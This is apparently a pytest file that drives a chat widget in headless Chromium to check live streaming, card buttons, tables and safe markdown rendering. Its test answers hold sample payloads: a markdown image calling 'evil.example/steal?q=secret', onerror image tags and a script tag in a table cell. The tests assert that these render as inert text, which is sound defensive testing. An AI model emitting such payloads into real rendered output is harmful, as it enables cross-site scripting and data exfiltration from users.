"""The demo page's widget in a real browser (headless Chromium): live edits, final, safe markdown.

The demo embeds the widget with its one tag, open; Playwright's CSS selectors reach into its
Shadow DOM. tests/test_widget_embed.py embeds it on another site.
"""

import asyncio
import shutil
from pathlib import Path
from typing import Any

import pytest

from agent.providers.scripted import Reply, ScriptedProvider
from tests.conftest import Running

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
playwright_api = pytest.importorskip("playwright.async_api", reason="playwright is not installed")
pytestmark = [
    pytest.mark.process,
    pytest.mark.skipif(
        CHROMIUM is None,
        reason="no system Chromium (apt-get install chromium); .ci/run installs it",
    ),
]
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ANSWER = (
    "**Bold** news: see [the docs](https://example.com/docs).\n\n"
    "![tracker](https://evil.example/steal?q=secret) <img src=x onerror=alert(1)>"
)


async def say_in_widget(browser: Any, url: str, text: str) -> Any:
    """A new page on the demo, connected, with `text` sent from the widget's input."""
    page = await browser.new_page()
    await page.goto(url + "/")
    await page.wait_for_selector(".cgw-state:has-text('Online')")
    await page.fill(".cgw-input", text)
    await page.press(".cgw-input", "Enter")
    return page


async def test_widget_shows_the_placeholder_live_then_the_final_answer_safely(
    running: Running,
) -> None:
    hold = asyncio.Event()
    provider = ScriptedProvider([Reply(ANSWER, chunks=8, delay_s=0.05, wait=hold)])
    app = await running(provider)
    async with playwright_api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = await say_in_widget(browser, app.url, "tell me the news")
            await page.wait_for_selector(
                ".cgw-msg.cgw-bot:not(.cgw-greeting).cgw-pending"
            )  # the placeholder
            assert "Thinking" in await page.inner_text(".cgw-msg.cgw-bot:not(.cgw-greeting)")
            hold.set()
            await page.wait_for_function(  # edited live: part of the answer while still pending
                "() => { const m = document.querySelector('chat-gateway-widget').shadowRoot"
                ".querySelector('.cgw-msg.cgw-bot:not(.cgw-greeting).cgw-pending');"
                " return m && m.textContent.includes('Bold') && !m.textContent.includes('onerror'); }"
            )
            await page.wait_for_selector(
                ".cgw-msg.cgw-bot:not(.cgw-greeting):not(.cgw-pending)", timeout=10_000
            )
            bot = page.locator(".cgw-msg.cgw-bot:not(.cgw-greeting)")
            assert await bot.count() == 1
            assert await bot.locator("strong").inner_text() == "Bold"
            link = bot.locator("a")
            assert await link.get_attribute("href") == "https://example.com/docs"
            assert "noopener" in (await link.get_attribute("rel") or "")
            assert await page.locator("img").count() == 0  # neither markdown nor raw HTML images
            assert "onerror" in await bot.inner_text()  # shown as text, never run
        finally:
            await browser.close()


async def test_widget_renders_link_labels_that_hold_code_or_an_image(running: Running) -> None:
    answer = "See [`pip install`](https://example.com/pip) and [![logo](https://evil.example/l.png)](https://example.com/logo)."
    app = await running(ScriptedProvider([Reply(answer)]))
    async with playwright_api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = await say_in_widget(browser, app.url, "links please")
            await page.wait_for_selector(
                ".cgw-msg.cgw-bot:not(.cgw-greeting):not(.cgw-pending)", timeout=10_000
            )
            links = page.locator(".cgw-msg.cgw-bot:not(.cgw-greeting) a")
            assert await links.count() == 2
            assert await links.nth(0).inner_text() == "pip install"
            assert await links.nth(0).locator("code").count() == 1
            assert await links.nth(1).inner_text() == "[image: logo]"
            assert await links.nth(1).get_attribute("href") == "https://example.com/logo"
            assert await page.locator("img").count() == 0
        finally:
            await browser.close()


PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


async def test_widget_renders_a_card_and_its_buttons_answer_back(
    running: Running, tmp_path: Path
) -> None:
    from tools.base import ToolContext, ToolResult
    from tools.builtin import builtin_registry
    from tools.display import button, card
    from tools.registry import tool

    @tool
    async def show_order(ctx: ToolContext) -> ToolResult:
        """Show the order card."""
        hint = card(
            "Order 7",
            {"Amount": "120 HKD", "Pay before": "2026-12-02 13:30 UTC"},
            image=PIXEL,
            buttons=[
                button("Confirm", "confirm_order", value="yes, confirm order 7", style="primary")
            ],
        )
        return ToolResult("order card shown", display=(hint,))

    registry = builtin_registry()
    registry.add(show_order)
    personas = tmp_path / "personas"
    personas.mkdir()
    (personas / "default.md").write_text(
        "---\nname: default\ndescription: d\ntools: [show_order]\n---\nHi\n"
    )
    provider = ScriptedProvider(
        [Reply(calls=[("show_order", {})]), Reply("Here is your order."), Reply("Confirmed.")]
    )
    app = await running(provider, registry=registry, personas={"dirs": [str(personas)]})
    async with playwright_api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = await say_in_widget(browser, app.url, "my order")
            await page.wait_for_selector(".cgw-card")
            assert await page.inner_text(".cgw-card .cgw-hint-title") == "Order 7"
            assert "120 HKD" in await page.inner_text(".cgw-fields")
            # a date in a field is kept whole: it never wraps at its "-"
            assert await page.inner_text(".cgw-fields dd .cgw-nowrap") == "2026-12-02"
            assert await page.locator(".cgw-card img").get_attribute("src") == PIXEL
            await page.click(".cgw-card button:has-text('Confirm')")
            # the press shows what it sent: the button stays marked, and a bubble says it
            await page.wait_for_selector(".cgw-user.cgw-action:has-text('Confirm')")
            pressed_button = page.locator(".cgw-card button:has-text('Confirm')")
            assert await pressed_button.get_attribute("aria-pressed") == "true"
            assert await pressed_button.is_disabled()
            await page.wait_for_selector(
                ".cgw-msg.cgw-bot:not(.cgw-greeting):has-text('Confirmed.')"
            )
            await page.reload()  # from the server's transcript: the same card, pressed
            await page.wait_for_selector(
                ".cgw-card button[aria-pressed='true']:has-text('Confirm')"
            )
            assert await page.locator(".cgw-action .cgw-text").all_inner_texts() == ["Confirm"]
            # the press reaches the model as a button press with its label, not as typed text
            pressed = provider.requests[-1].messages[-1].content
            assert (
                pressed
                == "[The user pressed the button “Confirm” (value: 'yes, confirm order 7').]"
            )
        finally:
            await browser.close()


TABLE_ANSWER = (
    "## Plans\n\n- **Basic**: email\n- Pro\n\n"
    "| Plan | Note |\n|---|--:|\n"
    '| <script>window.pwned = 1</script> | <img src=x onerror="window.pwned = 2"> |\n'
    "| Pro | 2026-12-02 |"
)


async def test_widget_renders_headings_lists_and_tables_and_runs_no_markup_from_a_cell(
    running: Running,
) -> None:
    app = await running(ScriptedProvider([Reply(TABLE_ANSWER, chunks=6)]))
    async with playwright_api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            dialogs: list[str] = []
            page = await say_in_widget(browser, app.url, "your plans?")
            page.on("dialog", lambda dialog: dialogs.append(dialog.message))
            await page.wait_for_selector(
                ".cgw-msg.cgw-bot:not(.cgw-greeting):not(.cgw-pending)", timeout=10_000
            )
            bot = page.locator(".cgw-msg.cgw-bot:not(.cgw-greeting)")
            assert await bot.locator("h2").inner_text() == "Plans"
            assert await bot.locator("ul > li").count() == 2
            assert await bot.locator("table th").all_inner_texts() == ["Plan", "Note"]
            cells = await bot.locator("table td").all_inner_texts()
            assert cells[0] == "<script>window.pwned = 1</script>"  # shown as text
            assert cells[1] == '<img src=x onerror="window.pwned = 2">'
            assert cells[2:] == ["Pro", "2026-12-02"]
            assert await bot.locator("img, script").count() == 0
            assert await page.evaluate("() => window.pwned") is None
            assert dialogs == []
            # the date is one line, though its column is as narrow as the text allows
            box = await bot.locator("td .cgw-nowrap").bounding_box()
            line = await bot.locator("td .cgw-nowrap").evaluate(
                "(el) => parseFloat(getComputedStyle(el).lineHeight)"
            )
            assert box is not None and box["height"] < line * 1.5
        finally:
            await browser.close()
